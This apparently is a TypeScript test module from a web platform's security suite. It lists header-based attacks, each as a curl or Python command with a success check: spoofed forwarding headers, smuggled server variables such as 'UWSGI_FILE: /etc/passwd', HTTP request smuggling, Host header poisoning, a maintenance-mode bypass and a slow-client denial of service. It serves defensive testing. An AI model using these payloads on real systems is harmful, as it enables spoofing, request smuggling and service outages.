import type { Attack } from "../attack.ts";

const group = "headers";
const asked = (...headers: string[]) =>
  `curl -s -H "Host: $APP.example.org" ${headers.map((header) => `-H '${header}'`).join(" ")} "http://$ADDRESS/see"`;
const raw = (text: string) =>
  `python3 - "$ADDRESS" <<'P'
import socket, sys
s = socket.create_connection((sys.argv[1], 80), 5)
s.settimeout(3)
s.sendall(${text})
said = b""
try:
    while True:
        more = s.recv(65536)
        if not more: break
        said += more
except OSError: pass
print(said.decode("latin-1"))
P`;

/** What a visitor can have the app believe. */
export const requests: readonly Attack[] = [
  {
    ...{ group, name: "have the app believe in a scheme of its own: X-Forwarded-Proto", who: "visitor" },
    do: asked("X-Forwarded-Proto: javascript"),
    took: 'grep -q javascript "$SAID"',
  },
  {
    ...{ group, name: "have the app believe that it is asked over TLS: X-Forwarded-Proto", who: "visitor" },
    do: asked("X-Forwarded-Proto: https"),
    took: 'grep -q -e "https://" -e \'"secure":true\' "$SAID"',
  },
  {
    ...{ group, name: "have the app believe that it is asked over TLS: X-Forwarded-SSL", who: "visitor" },
    do: asked("X-Forwarded-SSL: on"),
    took: 'grep -q -e "https://" -e \'"secure":true\' "$SAID"',
  },
  {
    ...{ group, name: "have the app believe that it is asked over TLS: other headers", who: "visitor" },
    do: [
      "X-Forwarded-Protocol: ssl",
      "X-Forwarded-Protocol: https",
      "Front-End-Https: on",
      "X-Url-Scheme: https",
      "Forwarded: proto=https",
      "X-Forwarded-Scheme: https",
      "X-Scheme: https",
    ]
      .map((header) => asked(header))
      .join("\n"),
    took: 'grep -q -e "https://" -e \'"secure":true\' "$SAID"',
  },
  {
    ...{ group, name: "have the app believe in another address of the visitor", who: "visitor" },
    do: [
      asked("X-Forwarded-For: 127.0.0.1"),
      asked("X-Real-IP: 127.0.0.1"),
      asked("X-Forwarded-For: 127.0.0.1", "X-Forwarded-For: 127.0.0.1"),
      asked("Forwarded: for=127.0.0.1"),
      asked("Client-IP: 127.0.0.1"),
    ].join("\n"),
    took: 'grep -q \'"address":"127.0.0.1"\' "$SAID"',
  },
  {
    ...{
      group,
      name: "give the app a variable of the server's by a header: SCRIPT_NAME, REMOTE_ADDR, UWSGI_",
      who: "visitor",
    },
    do: asked(
      "Script-Name: /evil",
      "Remote-Addr: 127.0.0.1",
      "UWSGI_FILE: /etc/passwd",
      "Uwsgi-Setenv: A=b",
      "Http-Host: evil",
      "REMOTE_USER: admin",
      "Content_Length: 0",
    ),
    took: 'grep -q -e evil -e \'"address":"127.0.0.1"\' "$SAID"',
  },
  {
    ...{ group, name: "empty a body by sending it in chunks", who: "visitor" },
    do: `printf 'a body of chunks' | curl -s -H "Host: $APP.example.org" -H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' --data-binary @- "http://$ADDRESS/echo"`,
    took: '! grep -q "a body of chunks" "$SAID"',
  },
  {
    ...{ group, name: "smuggle a second request: Content-Length and Transfer-Encoding", who: "visitor" },
    do: raw(
      'b"POST /echo HTTP/1.1\\r\\nHost: shop.example.org\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /see?smuggled HTTP/1.1\\r\\nHost: shop.example.org\\r\\n\\r\\n"',
    ),
    took: 'grep -q smuggled "$SAID"',
  },
  {
    ...{ group, name: "smuggle a second request: a Transfer-Encoding that only one of two reads", who: "visitor" },
    do: [" chunked", "\\tchunked", "xchunked", "chunked, identity", "\\x0bchunked"]
      .map((value) =>
        raw(
          `b"POST /echo HTTP/1.1\\r\\nHost: shop.example.org\\r\\nContent-Length: 50\\r\\nTransfer-Encoding:${value}\\r\\nConnection: close\\r\\n\\r\\n0\\r\\n\\r\\nGET /see?smuggled HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n".ljust(300, b"x")`,
        ),
      )
      .join("\n"),
    took: 'grep -q "see?smuggled" "$SAID"',
  },
  {
    ...{ group, name: "reach the site by a name that is not its own", who: "visitor" },
    do: 'curl -s -H "Host: evil.example.org" "http://$ADDRESS/see"; curl -s -H "Host: shop.example.org" "http://$ADDRESS/see" -H "X-Forwarded-Host: evil.example.org"; curl -s --request-target "http://evil.example.org/see" -H "Host: shop.example.org" "http://$ADDRESS/see"',
    took: 'grep -q "http://evil.example.org/see" "$SAID" && ! curl -s -H "Host: evil.example.org" http://127.0.0.1/see | grep -q evil',
  },
  {
    ...{ group, name: "pass maintenance as an address that is allowed", who: "visitor" },
    do: 'curl -s "http://$ADDRESS/" -o /dev/null',
    commands: [["maintenance", "on"]],
    took: 'for header in "X-Forwarded-For: 127.0.0.1" "X-Real-IP: 127.0.0.1" "Remote-Addr: 127.0.0.1"; do curl -s --interface 127.0.0.2 -H "$header" -H "Host: $APP.example.org" "http://127.0.0.1/see" | grep -q secure && exit 0; done; exit 1',
    after: 'rm -rf "/srv/$APP/maintenance"/* "/srv/$APP/shared/maintenance"',
  },
  {
    ...{ group, name: "keep every worker busy by clients that send slowly", who: "visitor" },
    do: `python3 - "$ADDRESS" <<'P'
import socket, sys, time, urllib.request
slow = []
for n in range(200):
    s = socket.create_connection((sys.argv[1], 80), 5)
    s.sendall(b"POST /echo HTTP/1.1\\r\\nHost: shop.example.org\\r\\nContent-Length: 1000\\r\\n\\r\\nx")
    slow.append(s)
time.sleep(1)
print(urllib.request.urlopen(urllib.request.Request("http://%s/" % sys.argv[1], headers={"Host": "shop.example.org"}), timeout=10).read())
P`,
    took: '! grep -q "b\'shop\'" "$SAID"',
  },
];
